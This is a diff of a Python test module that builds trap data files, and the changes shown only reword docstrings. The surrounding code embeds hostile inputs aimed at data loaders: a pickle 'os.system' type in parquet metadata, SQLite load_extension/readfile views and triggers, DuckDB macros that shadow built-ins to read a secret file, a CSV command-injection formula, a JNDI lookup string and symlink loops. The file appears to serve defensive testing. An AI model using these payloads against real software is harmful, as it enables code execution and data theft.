@@ -32,7 +32,7 @@ def pickled_type(trap, folder, way):
 
 @kind("arrow", "parquet", refused=False)
 def metadata(trap, folder, way):
-    """Say hosts, scripts and pickles where libraries look for what they wrote themselves."""
+    """Put hosts, scripts and pickles where libraries expect their own metadata."""
     said = {"name": "x", "numpy_type": "os.system", "pandas_type": "object", "metadata": {"serializer": "pickle"}}
     host = f"http://127.0.0.1:{trap.port}/a"
     kinds = {"pandas": {"columns": [said], "index_columns": [], "creator": {"library": host}}, "location": host}
@@ -99,7 +99,7 @@ def tar_pickle(trap, folder, way):
 
 @kind("references", "hub", "catalog", refused=False)
 def json_of_addresses(trap, folder, way):
-    """Write what other libraries take for a list of what is to be fetched."""
+    """Write JSON that other libraries take for a list of files to fetch."""
     host = f"http://127.0.0.1:{trap.port}/a"
     said = {
         "references": {"version": 1, "refs": {".zgroup": '{"zarr_format": 2}', "x/0": [host, 0, 64]}},
@@ -145,7 +145,7 @@ def duckdb_view(trap, folder, way):
 
 @kind("duckdb_tables", "functions", "file", needs=DUCKDB, refused=False)
 def duckdb_shadow(trap, folder, way):
-    """Give macros and tables the names that a reader asks for."""
+    """Give macros and tables the names that a reader looks up."""
     secret = f"(select content from read_text('{trap.bytes}'))"  # noqa: S608
     if way == "functions":
         return _duckdb(folder, ROWS_OF_T, *(f"create macro {name}(a) as {secret}" for name in ("min", "max", "count")))
@@ -178,7 +178,7 @@ def _sqlite(folder, *statements):
 
 @kind("view", "trigger", "table", refused=False)
 def sqlite_schema(trap, folder, way):
-    """Call what loads code, reads files or attaches databases in views, triggers and a table's own statement."""
+    """Load code, read files and attach databases in views, triggers and a table's CREATE statement."""
     load, read = f"load_extension('{trap.folder}/x.so')", f"readfile('{trap.bytes}')"
     if way == "view":
         return _sqlite(folder, f"create view v as select {load}, {read}")
@@ -196,7 +196,7 @@ def sqlite_schema(trap, folder, way):
 
 @kind("csv", "jsonl", "svm", refused=False)
 def text_of_addresses(trap, folder, way):
-    """Write rows of text that name files and hosts."""
+    """Write rows of text with names of files and hosts."""
     words = [str(trap.bytes), f"http://127.0.0.1:{trap.port}/a", f"=cmd|'touch {trap.ran}'", "${jndi:ldap://a}"]
     lines = {
         "csv": ["x,label", *(f'"{words[i % 4]}",{i % 2}' for i in range(ROWS))],
@@ -209,7 +209,7 @@ def text_of_addresses(trap, folder, way):
 
 @kind("images", "keys", "tables", refused=False)
 def folder_in_itself(trap, folder, way):
-    """Lead two links to where they lie, so that each step down finds two more."""
+    """Link twice to the folder itself, so that each level has two more."""
     inner = folder / {"images": "cat", "keys": "year=1", "tables": "a"}[way]
     inner.mkdir()
     for name in ("year=2", "year=3") if way == "keys" else ("b", "c"):
@@ -222,7 +222,7 @@ def folder_in_itself(trap, folder, way):
 
 @kind(refused=False)
 def images_that_are_programs(trap, folder):
-    """Call a program of PostScript an image."""
+    """Store a PostScript program as an image."""
     for name in ("cat", "dog"):
         (folder / name).mkdir()
         for number in range(ROWS // 2):
